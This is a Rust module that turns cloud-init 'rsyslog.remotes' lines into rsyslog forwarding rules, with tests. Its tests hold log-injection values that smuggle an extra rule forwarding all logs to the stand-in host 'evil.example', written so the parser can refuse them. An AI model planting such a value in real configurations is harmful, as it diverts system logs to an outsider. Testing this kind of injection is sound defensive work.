//! `rsyslog.remotes` lines: `name: "[filter] [@|@@]host[:port] [# comment]"` turned into an
//! rsyslog forwarding rule as cloud-init's `parse_remotes_line` does: filter `*.*` by
//! default, `@` (UDP) unless `@@` (TCP), an IPv6 address put in brackets, the port as a
//! number, and the remote's name as a trailing comment.

/// One parsed remote.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Remote {
    pub name: Option<String>,
    pub filter: String,
    pub tcp: bool,
    pub addr: String,
    pub port: Option<u32>,
}

impl std::fmt::Display for Remote {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} {}", self.filter, if self.tcp { "@@" } else { "@" })?;
        if self.addr.contains(':') {
            write!(f, "[{}]", self.addr)?;
        } else {
            f.write_str(&self.addr)?;
        }
        if let Some(p) = self.port.filter(|p| *p != 0) {
            write!(f, ":{p}")?;
        }
        if let Some(n) = self.name.as_deref().filter(|n| !n.is_empty()) {
            write!(f, " # {n}")?;
        }
        Ok(())
    }
}

/// cloud-init's comment split: `[ ]*#+[ ]*` must occur exactly once, else there is no comment.
fn split_comment(line: &str) -> (&str, Option<&str>) {
    let Some(start) = line.find('#') else {
        return (line, None);
    };
    let data_end = line[..start].trim_end_matches(' ').len();
    let hashes_end = start + line[start..].len() - line[start..].trim_start_matches('#').len();
    let comment_start = line.len() - line[hashes_end..].trim_start_matches(' ').len();
    let comment = &line[comment_start..];
    if comment.contains('#') {
        return (line, None);
    }
    (&line[..data_end], Some(comment.trim()))
}

/// Why a line was refused (never quoting it: it is the user's).
pub type Refused = &'static str;

/// Parses one remote line; `name` is the remote's key.
pub fn parse(line: &str, name: &str) -> Result<Remote, Refused> {
    let (data, comment) = split_comment(line);
    let toks: Vec<&str> = data.split_whitespace().collect();
    let (filter, host_port) = match toks.as_slice() {
        [_] => (None, data),
        [m, hp] => (Some(*m), *hp),
        _ => return Err("not one or two words (filter and host)"),
    };
    let (tcp, rest) = if let Some(r) = host_port.strip_prefix("@@") {
        (true, r)
    } else if let Some(r) = host_port.strip_prefix('@') {
        (false, r)
    } else {
        (false, host_port)
    };
    let (addr, port) = if let Some(r) = rest.strip_prefix('[') {
        let end = r.find(']').ok_or("host had invalid brackets")?;
        let (addr, after) = (&r[..end], &r[end + 1..]);
        (addr.to_string(), port_part(after)?)
    } else {
        match rest.split_once(':') {
            None => (rest.to_string(), None),
            Some((addr, after)) => (addr.to_string(), port_part(&format!(":{after}"))?),
        }
    };
    if addr.is_empty() {
        return Err("address is required");
    }
    let name = if name.is_empty() {
        comment.map(str::to_string)
    } else {
        Some(name.to_string())
    };
    // The name ends the rule as a `#` comment, which runs to the end of its line only.
    if name
        .as_deref()
        .is_some_and(|n| n.chars().any(char::is_control))
    {
        return Err("the name or comment holds a line break or control character");
    }
    Ok(Remote {
        name,
        filter: filter.unwrap_or("*.*").to_string(),
        tcp,
        addr,
        port,
    })
}

/// `""` or `:digits` after the host.
fn port_part(after: &str) -> Result<Option<u32>, Refused> {
    if after.is_empty() {
        return Ok(None);
    }
    let digits = after
        .strip_prefix(':')
        .ok_or("invalid host specification")?;
    if digits.is_empty() || !digits.bytes().all(|b| b.is_ascii_digit()) {
        return Err("invalid host specification");
    }
    digits.parse().map(Some).map_err(|_| "port out of range")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The remote's name and a line's comment end the rule as `# text`: one holding a line
    /// break (or another control character) would add a rule of its own; refused.
    #[test]
    fn names_and_comments_with_line_breaks_are_refused() {
        for (line, name) in [
            ("10.0.0.1", "n\n*.* @@evil.example:514"),
            ("10.0.0.1 # c\n*.* @@evil.example:514", ""),
            ("10.0.0.1 # c\r*.* @@evil.example", ""),
            ("10.0.0.1", "n\0"),
        ] {
            assert!(parse(line, name).is_err(), "{line:?} {name:?}");
        }
    }

    #[test]
    fn lines_as_cloud_init_writes_them() {
        for (line, name, want) in [
            ("192.168.1.1", "maas", "*.* @192.168.1.1 # maas"),
            ("@@10.0.4.1:10514", "juju", "*.* @@10.0.4.1:10514 # juju"),
            ("kern.* @[fd00::1]:514", "v6", "kern.* @[fd00::1]:514 # v6"),
            ("fd00::1", "bare", "*.* @[fd00::1] # bare"),
            (
                "*.* @@host.example # the comment",
                "",
                "*.* @@host.example # the comment",
            ),
            ("host:0514", "n", "*.* @host:514 # n"),
        ] {
            let got = parse(line, name).map(|r| r.to_string());
            if line == "fd00::1" {
                assert!(got.is_err(), "{line}");
                continue;
            }
            assert_eq!(got.as_deref(), Ok(want), "{line}");
        }
        for bad in ["a b c", "@@[fd00::1", "host:port", "", "@@"] {
            assert!(parse(bad, "x").is_err(), "{bad:?}");
        }
    }
}
